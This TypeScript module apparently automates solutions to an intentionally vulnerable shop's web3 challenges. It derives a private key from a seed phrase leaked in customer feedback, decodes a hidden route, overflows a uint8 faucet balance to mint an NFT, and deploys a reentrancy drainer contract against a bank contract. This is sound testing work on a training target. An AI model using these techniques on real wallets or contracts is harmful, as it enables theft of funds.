import { readFileSync } from 'node:fs';
import path from 'node:path';
import { type Abi, createPublicClient, createWalletClient, defineChain, type Hex, http, parseAbi, parseEther } from 'viem';
import { generatePrivateKey, mnemonicToAccount, privateKeyToAccount } from 'viem/accounts';
import type { Game, Step } from './client.ts';

/**
 * web3: the shop's own EVM chain (JSON-RPC at /rest/web3/rpc, a test-ETH faucet) attacked with a
 * wallet of our own (viem), as a player would from their own tooling, and the two hidden web3
 * pages found and opened in Chromium, where the page's padding picture is what counts.
 */

type Contracts = { beeToken: Hex; beeFaucet: Hex; honeyPotNft: Hex; walletBank: Hex };

/** Only the functions a player calls, written as the contracts' sources (shown in the shop's code snippets) declare them. */
const faucetAbi = parseAbi(['function withdraw(uint8 amount)']);
const tokenAbi = parseAbi(['function approve(address spender, uint256 amount) returns (bool)']);
const nftAbi = parseAbi(['function mintNFT()']);

/** A fresh wallet on the shop's chain with 1 test ETH from its faucet; `send` calls a contract in a mined transaction. */
async function player(game: Game) {
  const { json: info } = await game.ok('/rest/web3/chain');
  const contracts = info.contracts as Contracts;
  const chain = defineChain({
    id: info.chainId,
    name: 'Juice Shop chain',
    nativeCurrency: { name: 'Ether', symbol: 'ETH', decimals: 18 },
    rpcUrls: { default: { http: [new URL(info.rpcUrl, game.url).href] } },
  });
  const account = privateKeyToAccount(generatePrivateKey());
  await game.ok(info.faucetUrl, { body: { address: account.address } });
  const reader = createPublicClient({ chain, transport: http() });
  const wallet = createWalletClient({ account, chain, transport: http() });
  const send = async (address: Hex, abi: Abi, functionName: string, args: unknown[] = [], value?: bigint) => {
    const hash = await wallet.writeContract({ address, abi, functionName, args, value, chain, account });
    const receipt = await reader.waitForTransactionReceipt({ hash, pollingInterval: 50 });
    if (receipt.status !== 'success') throw new Error(`${functionName} reverted`);
    return receipt;
  };
  return { account, chain, contracts, reader, wallet, send };
}

/** Opens `route` in a fresh browser and waits until the page has fetched its padding picture (what the shop counts). */
async function visit(game: Game, route: string, picture: string) {
  const { context, page } = await game.page();
  try {
    const fetched = page.waitForResponse((r) => new URL(r.url()).pathname.endsWith(`/padding/${picture}`) && r.ok());
    await page.goto(new URL(route, game.url).href);
    await fetched;
  } finally {
    await context.close();
  }
}

export const steps: Step[] = [
  {
    // NFT Takeover: a customer posted their wallet's seed phrase as feedback; its first account's key unlocks the NFT
    solves: ['nftUnlockChallenge'],
    run: async (game) => {
      const { json } = await game.ok('/api/Feedbacks');
      const phrase = (json.data as Array<{ comment: string }>).map((f) => f.comment.match(/\b(?:[a-z]+ ){11}[a-z]+\b/)?.[0]).find(Boolean);
      if (!phrase) throw new Error('no seed phrase in the feedback');
      const key = mnemonicToAccount(phrase).getHdKey().privateKey;
      if (!key) throw new Error('no key derived');
      await game.ok('/rest/web3/submitKey', { body: { privateKey: `0x${Buffer.from(key).toString('hex')}` } });
    },
  },
  {
    // Blockchain Hype: the unlisted route's name is computed in the page's own hash-route code; let it compute, then open it
    solves: ['tokenSaleChallenge'],
    run: async (game) => {
      const { text } = await game.ok('/');
      const numbers = text.match(/\[((?:\\[nt]|\s|\d|,)+)\]\.map\(\(?(\w+)\)?\s*=>\s*\2\.toString\(36\)\)/)?.[1];
      if (!numbers) throw new Error('the obfuscated route is not in the page');
      const route = (numbers.match(/\d+/g) ?? []).map((n) => Number(n).toString(36)).join('-');
      await visit(game, `/#/${route}`, '56px.png');
    },
  },
  {
    // Web3 Sandbox: a page left deployed that no menu links to
    solves: ['web3SandboxChallenge'],
    run: (game) => visit(game, '/web3-sandbox', '11px.png'),
  },
  {
    // Mint the Honey Pot: the faucet keeps its balance in a uint8 and checks nothing; claims of 255
    // (past the page's limit) wrap it instead of failing, until the wallet holds the 1000 BEE price
    solves: ['nftMintChallenge'],
    run: async (game) => {
      await game.ok('/rest/web3/nftMintListen');
      const p = await player(game);
      for (let i = 0; i < 4; i++) await p.send(p.contracts.beeFaucet, faucetAbi, 'withdraw', [255]);
      await p.send(p.contracts.beeToken, tokenAbi, 'approve', [p.contracts.honeyPotNft, parseEther('1000')]);
      await p.send(p.contracts.honeyPotNft, nftAbi, 'mintNFT');
      const { json } = await game.ok('/rest/web3/walletNFTVerify', { body: { walletAddress: p.account.address } });
      if (!json.success) throw new Error(`not verified: ${json.message}`);
    },
  },
  {
    // Wallet Depletion: the bank pays out before it books; a contract of ours re-enters withdraw from its receive()
    solves: ['web3WalletChallenge'],
    run: async (game) => {
      const p = await player(game);
      await game.ok('/rest/web3/walletExploitAddress', { body: { walletAddress: p.account.address } });
      // WalletDrainer.sol beside it, compiled with solc
      const drainer = JSON.parse(readFileSync(path.join(import.meta.dirname, '../../fixtures/web3/wallet-drainer.json'), 'utf8')) as {
        abi: Abi;
        bytecode: Hex;
      };
      const hash = await p.wallet.deployContract({
        abi: drainer.abi,
        bytecode: drainer.bytecode,
        args: [p.contracts.walletBank],
        chain: p.chain,
        account: p.account,
      });
      const attacker = (await p.reader.waitForTransactionReceipt({ hash, pollingInterval: 50 })).contractAddress;
      if (!attacker) throw new Error('the drainer was not deployed');
      await p.send(attacker, drainer.abi, 'attack', [], parseEther('0.1'));
    },
  },
];
